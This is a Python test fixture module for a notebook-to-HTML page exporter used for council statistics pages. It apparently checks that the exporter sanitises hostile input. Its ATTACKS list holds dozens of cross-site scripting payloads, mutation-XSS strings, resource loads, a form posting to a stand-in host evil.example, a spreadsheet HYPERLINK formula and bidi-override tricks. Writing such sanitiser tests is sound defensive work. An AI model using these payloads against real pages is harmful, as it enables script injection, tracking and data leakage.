"""Notebooks, pages and hostile strings for the tests of the page."""

from itertools import count
from typing import Any

import nbformat
from nbformat import NotebookNode

from csd_helpers.page.exporter import CsdExporter

NUMBERS = count()
FACTS: dict[str, Any] = {
    "org": "Anytown Council",
    "title": "Children looked after: October 2020 (Part 1)",
    "part": 1,
    "marking": "Part 1: public",
    "nav": [{"href": "index.html", "text": "Summary", "current": True}],
    "footer": "Figures as at 31 October 2020",
    "downloads": [{"href": "data.csv", "text": "Figures (CSV)"}],
}


def code(html: str, *, tag: str | None = "report", kind: str = "text/html") -> NotebookNode:
    """Return an executed cell with one output."""
    output = nbformat.v4.new_output("display_data", data={kind: html, "text/plain": "PLAIN"})
    cell = nbformat.v4.new_code_cell("SOURCE = 1", outputs=[output], id=f"cell{next(NUMBERS)}")
    cell.metadata["tags"] = [tag] if tag else []
    return cell


def page(*cells: NotebookNode, facts: dict[str, Any] | None = FACTS) -> str:
    """Return the page that the exporter makes of some cells."""
    notebook = nbformat.v4.new_notebook(cells=list(cells))
    resources = {"page": facts} if facts else None
    return CsdExporter().from_notebook_node(notebook, resources)[0]


ATTACKS = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle r=9></svg>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><img src=https://evil.example/p.gif onerror=alert(1)>',
    "--><script>alert(1)</script>",
    "<!-- hidden -->",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/"><input name=a><button>x</button></form>',
    '<img src="https://evil.example/pixel.gif" alt="p">',
    '<img srcset="https://evil.example/pixel.gif 1x" alt="p">',
    '<picture><source srcset="https://evil.example/p.png"><img alt="p" src="p.png"></picture>',
    '<img src="data:text/html;base64,AAAA" alt="p">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<p style="background:url(https://evil.example/x)">x</p>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "![x](https://evil.example/x.png)",
    "![x](part2_exempt.csv)",
    "![x](sub/part2_exempt.csv)",
    "```html\n<script>alert(1)</script>\n```",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "$\\href{javascript:alert(1)}{x}$",
    "{{7*7}}",
    "\x1b]8;;https://evil.example/\x07link\x1b]8;;\x07",
    "12 \u202e43 fo\u202c",
    "\u2066hidden\u2069 &#x202e;",
    '=HYPERLINK("https://evil.example/","x")',
    "<table><tr><td><script>alert(1)</script></td></tr></table>",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
]
